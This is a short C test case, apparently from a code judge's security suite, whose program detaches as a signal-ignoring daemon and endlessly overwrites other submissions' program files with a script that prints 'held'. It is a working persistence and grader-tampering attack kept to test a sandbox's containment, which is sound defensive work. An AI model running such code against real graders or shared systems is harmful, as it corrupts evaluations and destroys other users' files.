// A daemon in a session of its own that holds stdout, and soon writes answers into every program's file it can reach.
// expect=wrong_output,passed
#include "attack.h"
int main(void) {
    if (fork()) return 0;
    setsid();
    if (fork()) return 0;
    for (int n = 1; n < 65; n++) signal(n, SIG_IGN);
    for (;;) {
        for (int i = 0; i < 5; i++) {
            static const char *names[] = {"program", "program.lua", "program.sh", "program.py", "program.b64"};
            int fd = open(names[i], O_WRONLY | O_CREAT | O_TRUNC, 0777);
            if (write(fd, "#!/bin/sh\necho held\n", 20) < 0) {}
            close(fd);
        }
        puts("held"), fflush(stdout);
        usleep(1000);
    }
}
